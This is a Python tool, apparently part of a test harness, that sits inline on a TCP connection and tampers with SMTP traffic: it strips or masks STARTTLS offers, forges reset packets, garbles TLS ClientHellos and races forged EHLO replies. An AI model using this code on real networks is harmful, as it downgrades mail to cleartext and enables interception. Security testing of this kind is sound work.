#!/usr/bin/env python3
"""A box on the cable that alters, adds or kills TCP segments between two ends of one connection.

Unlike proxy.py it ends no connection: addresses, ports and initial sequence numbers are the same on
both of its cables.  It needs neither a bridge device nor a packet queue in the kernel.

usage: bridge.py PORT TAMPER [FILE]
PORT is the server's; FILE holds the reply that `race` puts in place of the server's.
"""
import heapq
import itertools
import select
import socket
import struct
import sys
import time

PACKET_OUTGOING = 4
IPV4, TCP = b"\x08\x00", 6
ACK, PSH, RST = 0x10, 0x08, 0x04
WORD = 0xFFFFFFFF
# the hop limit of segments that the box makes up: it is nearer than the server
FORGED_TTL = 64
# seconds that a distant server's segments need, and that a forged one therefore wins
DISTANCE = 0.02
OFFER, MASKED = b"250-STARTTLS\r\n", b"250-XXXXXXXA\r\n"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Segment:
    """One IPv4 TCP segment, taken apart so that it can be put together again."""

    def __init__(self, frame):
        self.ethernet = frame[:14]
        header = (frame[14] & 15) * 4
        total = struct.unpack_from("!H", frame, 16)[0]
        self.ip, self.tcp = frame[14 : 14 + header], frame[14 + header : 14 + total]
        self.ports = struct.unpack_from("!HH", self.tcp)
        self.seq, self.ack, offset, self.flags = struct.unpack_from("!IIBB", self.tcp, 4)
        self.options = self.tcp[20 : (offset >> 4) * 4]
        self.window = self.tcp[14:16]
        self.payload = self.tcp[(offset >> 4) * 4 :]
        self.ttl = self.ip[8]

    @staticmethod
    def of(frame):
        known = frame[12:14] == IPV4 and len(frame) > 54 and frame[23] == TCP
        return Segment(frame) if known else None

    def timestamps(self):
        """Where the timestamps option's two values stand in the options, or None."""
        at = 0
        while at < len(self.options) and self.options[at] != 0:
            if self.options[at] == 8:
                return at + 2
            at += 1 if self.options[at] == 1 else self.options[at + 1]
        return None

    def answer(self, flags, payload=b""):
        """What the other end would say to this segment, had it said so; a forgery."""
        forged = Segment(self.frame())
        forged.ethernet = self.ethernet[6:12] + self.ethernet[:6] + IPV4
        forged.ip = self.ip[:12] + self.ip[16:20] + self.ip[12:16]
        forged.ports = self.ports[::-1]
        forged.seq, forged.ack = self.ack, (self.seq + len(self.payload)) & WORD
        forged.flags, forged.payload, forged.ttl = flags, payload, FORGED_TTL
        values = self.timestamps()
        if values is not None:
            swapped = self.options[values + 4 : values + 8] + self.options[values : values + 4]
            forged.options = self.options[:values] + swapped + self.options[values + 8 :]
        return forged

    def frame(self):
        """The whole frame, lengths and checksums made anew."""
        offset = (20 + len(self.options)) // 4 << 4
        tcp = struct.pack("!HHIIBB", *self.ports, self.seq, self.ack, offset, self.flags)
        tcp += self.window + b"\0\0" + self.tcp[18:20] + self.options + self.payload
        pseudo = self.ip[12:20] + struct.pack("!BBH", 0, TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = self.ip[:2] + struct.pack("!H", len(self.ip) + len(tcp)) + self.ip[4:8]
        ip += bytes((self.ttl, TCP)) + b"\0\0" + self.ip[12:]
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return self.ethernet + ip + tcp


def is_hello(segment):
    return segment.payload[:1] == b"\x16" and segment.payload[5:6] == b"\x01"


class Tamper:
    """Passes everything on; each step returns what goes onward and what goes back."""

    def __init__(self, file=None):
        self.file = file

    def client(self, segment):
        return [segment], []

    def server(self, segment):
        return [segment], []


class Mask(Tamper):
    """Overwrite the offer in place: no length changes."""

    def server(self, segment):
        segment.payload = segment.payload.replace(OFFER, MASKED)
        return [segment], []


class Blank(Tamper):
    """Overwrite the command in place."""

    def client(self, segment):
        if segment.payload.upper() == b"STARTTLS\r\n":
            segment.payload = b"XXXXXXXX\r\n"
        return [segment], []


class Strip(Tamper):
    """Take the offer out and move every sequence number behind it, in both directions."""

    def __init__(self, file=None):
        super().__init__(file)
        self.cuts = {}  # by client port: where the server's stream lost the offer

    def server(self, segment):
        port = segment.ports[1]
        at = segment.payload.find(OFFER)
        if at >= 0:
            self.cuts[port] = (segment.seq + at) & WORD
            segment.payload = segment.payload[:at] + segment.payload[at + len(OFFER) :]
        elif behind(segment.seq, self.cuts.get(port)):
            segment.seq = (segment.seq - len(OFFER)) & WORD
        return [segment], []

    def client(self, segment):
        if behind(segment.ack, self.cuts.get(segment.ports[0])):
            segment.ack = (segment.ack + len(OFFER)) & WORD
        return [segment], []


def behind(number, cut):
    """Whether a sequence number lies behind the cut, in a stream that may have wrapped."""
    return cut is not None and 0 < ((number - cut) & WORD) < 1 << 31


class GarbleHello(Tamper):
    """Damage the ClientHello: its session id is said to be longer than a session id can be."""

    def client(self, segment):
        if is_hello(segment):
            segment.payload = segment.payload[:43] + b"\xff" + segment.payload[44:]
        return [segment], []


class ResetHello(Tamper):
    """Swallow the ClientHello and reset both ends."""

    def client(self, segment):
        if not is_hello(segment):
            return [segment], []
        back = segment.answer(RST)
        segment.flags, segment.payload = RST, b""
        return [segment], [back]


class Race(Tamper):
    """Answer EHLO before the server can; its own answer still comes."""

    def client(self, segment):
        if segment.payload[:5].upper() != b"EHLO ":
            return [segment], []
        with open(self.file, "rb") as file:
            return [segment], [segment.answer(PSH | ACK, file.read())]


class ResetStarttls(Tamper):
    """Reset the client, in the server's name, when it asks for TLS; the server knows nothing."""

    def client(self, segment):
        asks = segment.payload.upper() == b"STARTTLS\r\n"
        return [segment], [segment.answer(RST | ACK)] if asks else []


TAMPERS = {
    "pass": Tamper,
    "mask": Mask,
    "blank": Blank,
    "strip": Strip,
    "garbled-hello": GarbleHello,
    "reset-hello": ResetHello,
    "race": Race,
    "reset-starttls": ResetStarttls,
}
DISTANT = ("race", "reset-starttls")


class Box:
    """Two cables, and the frames that are still on their way between them."""

    def __init__(self, port, tamper, file):
        self.port, self.tamper = port, TAMPERS[tamper](file)
        self.delay = DISTANCE if tamper in DISTANT else 0.0
        self.cables = [opened(name) for name in ("inside", "outside")]
        self.waiting, self.numbers = [], itertools.count()

    def run(self):
        while True:
            pause = max(0.0, self.waiting[0][0] - time.monotonic()) if self.waiting else None
            ready, _, _ = select.select(self.cables, (), (), pause)
            for cable in ready:
                frame, address = cable.recvfrom(65536)
                if address[2] != PACKET_OUTGOING:
                    self.take(frame, self.cables.index(cable))
            while self.waiting and self.waiting[0][0] <= time.monotonic():
                _, _, cable, frame = heapq.heappop(self.waiting)
                cable.send(frame)

    def take(self, frame, side):
        """`side` is 0 for frames of the client's cable, 1 for those of the server's."""
        far, near = self.cables[1 - side], self.cables[side]
        segment = Segment.of(frame)
        if not segment or segment.ports[1 - side] != self.port:
            self.send(far, frame, self.delay)
            return
        onward, back = (self.tamper.server if side else self.tamper.client)(segment)
        for changed in back:
            self.send(near, changed.frame(), 0.0)
        for changed in onward:
            self.send(far, changed.frame(), self.delay)

    def send(self, cable, frame, delay):
        heapq.heappush(self.waiting, (time.monotonic() + delay, next(self.numbers), cable, frame))


def opened(name):
    cable = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    cable.bind((name, 0))
    return cable


def main(port, tamper, file=None):
    box = Box(int(port), tamper, file)
    print("ready", flush=True)
    box.run()


if __name__ == "__main__":
    main(*sys.argv[1:])
